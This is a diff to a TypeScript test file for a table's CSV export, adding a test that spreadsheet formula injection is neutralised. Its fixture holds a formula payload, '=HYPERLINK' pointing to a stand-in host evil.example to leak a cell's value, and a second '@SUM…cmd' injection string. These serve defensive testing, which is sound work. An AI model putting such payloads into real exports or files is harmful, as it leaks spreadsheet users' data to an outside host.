@@ -5,6 +5,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { ConsoleProvider } from '../context.js';
 import { BOM } from './csv.js';
 import { compareKeys, decimalKey, nextSort, sortRows, SortableTable, tableCsv, type Column } from './SortableTable.js';
+import { amountColumn, countColumn, textColumn } from '../pages/reports/kit.js';
 
 afterEach(cleanup);
 
@@ -82,6 +83,31 @@ describe('the CSV of a table', () => {
   it('exports a column kept off the screen (a phone starting with + kept as text, as Excel would compute it)', () => {
     const withPhone: Column<Row>[] = [...columns, { key: 'phone', label: 'Phone', sortKey: () => '+998 90', csvOnly: true }];
     expect(tableCsv(withPhone, rows.slice(0, 1), undefined, 'en')).toBe(`${BOM}Name,Sum,Phone\r\nЁлка,9.75,'+998 90\r\n`);
+  });
+
+  it('neutralises text a spreadsheet would run (an imported item named =HYPERLINK…) and keeps negative amounts and counts numbers', () => {
+    interface Line {
+      item: string;
+      client: string;
+      left: string;
+      returns: number;
+      rank: number;
+    }
+    const report: Column<Line>[] = [
+      textColumn<Line>('item', 'Item', (line) => line.item),
+      textColumn<Line>('client', 'Client', (line) => line.client),
+      amountColumn<Line>('left', 'Left', (line) => line.left, 'en'),
+      countColumn<Line>('returns', 'Returns', (line) => line.returns),
+      { key: 'rank', label: 'Rank', numeric: true, sortKey: (line) => line.rank },
+    ];
+    const lines: Line[] = [
+      { item: '=HYPERLINK("http://evil.example/?"&A1,"Tea")', client: '-2', left: '-5.5', returns: -3, rank: -4 },
+      { item: '@SUM(1+1)*cmd', client: '+998 90', left: '-5', returns: 0, rank: 1 },
+    ];
+    expect(tableCsv(report, lines, undefined, 'en').split('\r\n').slice(1, 3)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""Tea"")",'-2,-5.5,-3,-4`,
+      "'@SUM(1+1)*cmd,'+998 90,-5,0,1",
+    ]);
   });
 
   it('holds the header, the rows in the order shown and the totals last, amounts exact in the language’s way', () => {
